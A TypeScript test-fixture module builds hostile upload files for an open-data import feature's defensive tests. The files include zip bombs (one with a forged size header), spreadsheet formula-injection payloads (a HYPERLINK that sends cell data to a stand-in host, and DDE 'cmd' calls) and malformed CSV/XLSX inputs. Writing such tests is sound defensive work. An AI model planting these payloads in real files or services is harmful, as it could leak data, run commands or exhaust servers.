/**
 * The hostile-file corpus: files a coordinator may upload by mistake or an attacker on purpose,
 * made here (nothing random: the "garbage" comes from a fixed seed) rather than committed, so that
 * each one says what it is. lib/open-data/import/hostile.test.ts checks that each gets a clear
 * French refusal or a correct parse; hostile.db.test.ts that none leaves anything half-stored.
 */
import { strToU8, zipSync } from "fflate";
import { MATRIX_HEADER } from "@/lib/matrix/csv";
import { LMN_FIELDS } from "@/lib/open-data/lmn/schema";
import { writeXlsx } from "@/lib/spreadsheet/xlsx";

/** A v1 LMN CSV line from a few fields (the others empty), quoted as RFC 4180 asks. */
export function lmnLine(values: Partial<Record<(typeof LMN_FIELDS)[number], string>>, separator = ","): string {
  const base = { id: "lieu-1", pivot: "43493312300029", nom: "EPN", commune: "Essômes-sur-Marne", code_postal: "02400", adresse: "1 place de l'Église", date_maj: "2024-04-02", ...values };
  return LMN_FIELDS.map((field) => {
    const value = base[field as keyof typeof base] ?? "";
    return value.includes('"') || value.includes(separator) || /[\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
  }).join(separator);
}

/** Bytes from a fixed seed (a linear congruential generator): garbage, the same every run. */
function garbage(length: number, seed = 20_261_204): Uint8Array {
  const bytes = new Uint8Array(length);
  let state = seed;
  for (let index = 0; index < length; index++) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    bytes[index] = state >>> 24;
  }
  return bytes;
}

/** Windows-1252 bytes of a text whose characters are all in that code page. */
function windows1252(text: string): Uint8Array {
  const high = "€\u0081‚ƒ„…†‡ˆ‰Š‹Œ\u008DŽ\u008F\u0090‘’“”•–—˜™š›œ\u009DžŸ";
  return Uint8Array.from(text, (char) => {
    const position = high.indexOf(char);
    return position >= 0 ? 0x80 + position : char.charCodeAt(0);
  });
}

export const FORMULAS = ['=HYPERLINK("http://exemple.invalid/?vol="&A1,"Cliquez")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"] as const;

/** A matrix row (the Toile template) for a place in Laon. */
export function templateRow(qui: string, quoi = "Démarches accompagnées"): string[] {
  return [qui, quoi, "Aide aux démarches administratives", "", "", "", "", "1 rue Sérurier, 02000 Laon", "le mardi de 9 h à 12 h", "Gratuit", "", "oui", "", "publiée"];
}

export interface HostileFile {
  name: string;
  /** What it is, for the test's title. */
  what: string;
  bytes: () => Uint8Array | Promise<Uint8Array>;
}

export const HOSTILE_FILES = {
  empty: { name: "vide.csv", what: "an empty file", bytes: () => new Uint8Array() },
  garbageCsv: { name: "lieux.csv", what: "binary garbage named .csv", bytes: () => garbage(4096) },
  garbageXlsx: { name: "lieux.xlsx", what: "binary garbage named .xlsx", bytes: () => garbage(4096) },
  truncatedZip: {
    name: "matrice.xlsx",
    what: "a workbook cut in the middle (a truncated zip)",
    bytes: async () => {
      const whole = await writeXlsx([{ name: "Matrice", header: MATRIX_HEADER, rows: [templateRow("CCAS de Laon")] }]);
      return whole.subarray(0, Math.floor(whole.length / 2));
    },
  },
  zipBomb: {
    name: "bombe.xlsx",
    what: "a zip whose sheet expands a thousandfold (20 MB of spaces in about 20 kB)",
    bytes: () =>
      zipSync({
        "xl/workbook.xml": strToU8('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="A" sheetId="1"/></sheets></workbook>'),
        "xl/worksheets/sheet1.xml": new Uint8Array(20_000_000).fill(0x20),
      }),
  },
  lyingZipBomb: {
    name: "menteur.xlsx",
    what: "a zip bomb whose entry declares 1,000 bytes (and holds 20 MB)",
    bytes: () => {
      const zip = zipSync({
        "xl/workbook.xml": strToU8('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="A" sheetId="1"/></sheets></workbook>'),
        "xl/worksheets/sheet1.xml": new Uint8Array(20_000_000).fill(0x20),
      });
      // The sheet's local header (after the workbook's entry) and its central directory record.
      const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
      for (let offset = 0; offset + 4 <= zip.length; offset++) {
        const signature = view.getUint32(offset, true);
        if (signature === 0x04034b50 && view.getUint32(offset + 22, true) === 20_000_000) view.setUint32(offset + 22, 1000, true);
        if (signature === 0x02014b50 && view.getUint32(offset + 24, true) === 20_000_000) view.setUint32(offset + 24, 1000, true);
      }
      return zip;
    },
  },
  fiftyThousandRowsCsv: {
    name: "lieux-50000.csv",
    what: "50,000 rows of LMN CSV (about 9 MB, under the 20 MB limit)",
    bytes: () => strToU8([LMN_FIELDS.join(","), ...Array.from({ length: 50_000 }, (_, index) => lmnLine({ id: `lieu-${index}`, nom: `EPN n° ${index}` }))].join("\r\n")),
  },
  fiftyThousandRowsXlsx: {
    name: "matrice-50000.xlsx",
    what: "50,000 rows of the Toile template as XLSX",
    bytes: () => writeXlsx([{ name: "Matrice", header: MATRIX_HEADER, rows: Array.from({ length: 50_000 }, (_, index) => templateRow(`Structure ${index}`)) }]),
  },
  tooBig: {
    name: "trop-gros.csv",
    what: "a CSV over 20 MB",
    bytes: () => new Uint8Array(21 * 1024 * 1024).fill(0x41),
  },
  windows1252: {
    name: "lieux-excel-windows.csv",
    what: "Windows-1252 text (é, œ, –, ’, €)",
    bytes: () => windows1252([LMN_FIELDS.join(","), lmnLine({ nom: "Médiathèque – Œuvre d’art", frais_a_charge: "Payant", prise_en_charge_specifique: "", presentation_resume: "5 € la séance" })].join("\r\n")),
  },
  bomSemicolonsCrlf: {
    name: "lieux-point-virgule.csv",
    what: "a BOM, semicolons and CRLF line ends",
    bytes: () => strToU8(`\uFEFF${[LMN_FIELDS.join(";"), lmnLine({ nom: "Espace; numérique", adresse: "2 rue \"Haute\"" }, ";"), lmnLine({ id: "lieu-2", nom: "Tiers-lieu" }, ";")].join("\r\n")}\r\n`),
  },
  formulasCsv: {
    name: "lieux-formules.csv",
    what: "formula cells (=HYPERLINK, +cmd, @SUM) in an LMN CSV",
    bytes: () => strToU8([LMN_FIELDS.join(","), lmnLine({ nom: FORMULAS[0], adresse: FORMULAS[1], presentation_resume: FORMULAS[2] })].join("\r\n")),
  },
  formulasXlsx: {
    name: "matrice-formules.xlsx",
    what: "formula cells (=HYPERLINK, +cmd, @SUM) in a Toile template XLSX",
    bytes: () => writeXlsx([{ name: "Matrice", header: MATRIX_HEADER, rows: [templateRow(FORMULAS[0], FORMULAS[1]).map((cell, index) => (index === 6 ? FORMULAS[2] : cell))] }]),
  },
} satisfies Record<string, HostileFile>;
